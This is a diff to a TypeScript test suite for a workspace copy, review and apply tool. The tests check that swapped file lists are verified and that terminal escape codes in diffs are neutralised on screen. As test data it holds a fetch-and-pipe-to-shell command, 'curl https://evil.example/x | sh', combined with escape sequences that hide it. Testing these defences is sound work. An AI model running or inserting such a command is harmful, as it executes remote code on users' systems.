@@ -117,8 +117,14 @@ describe('hostile: workspace access copy, review and apply', function () {
     let plan: Awaited<ReturnType<typeof planApply>> | undefined;
     const listed = (path: string) =>
       plan!.ready.some((ready) => ready.change.path === path) || plan!.heldBack.some((held) => held.path === path);
+    // The full listing (a baseline without the record of what was placed, as older sessions have)
+    // writes its list first thing, which this swapper races. The listing of changes since the copy
+    // writes late and hands small lists back inline, a window this naive swapper does not hit; the
+    // defence under test is the same for both: what the list names is checked, not trusted.
+    const { placed: _placed, ...fullListing } = baseline;
+    void _placed;
     for (; tries < 5; tries++) {
-      plan = await planApply(sandbox, baseline, { maxBytes: copyFileLimit(sandbox) });
+      plan = await planApply(sandbox, fullListing, { maxBytes: copyFileLimit(sandbox) });
       if (listed('sub/.git/config')) break;
     }
     assert.ok(listed('sub/.git/config'), `the swapped list was not read in ${tries} tries`);
@@ -286,14 +292,14 @@ describe('hostile: workspace access copy, review and apply', function () {
     assert.match(result.diff, /\+curl https:\/\/evil.example\/x \| sh\u001b\[2K\recho ok\n/);
     const written: string[] = [];
     const tty = { isTTY: true, write: (text: string) => written.push(text) } as unknown as NodeJS.WritableStream;
-    new Output(false, tty, tty).copyDiff(result);
+    new Output(false, tty, tty).copyDiff(result, 'hostile-copy-diff-escapes');
     const shown = written.join('');
     assert.doesNotMatch(shown, /[\u001b\r]/);
     assert.match(shown, /\+curl https:\/\/evil.example\/x \| sh\^\[\[2K\^Mecho ok\n/);
     // Piped, the patch keeps its exact bytes.
     const piped: string[] = [];
     const pipe = { write: (text: string) => piped.push(text) } as unknown as NodeJS.WritableStream;
-    new Output(false, pipe, pipe).copyDiff(result);
+    new Output(false, pipe, pipe).copyDiff(result, 'hostile-copy-diff-escapes');
     assert.ok(piped.join('').startsWith(result.diff));
     observe(
       AREA,
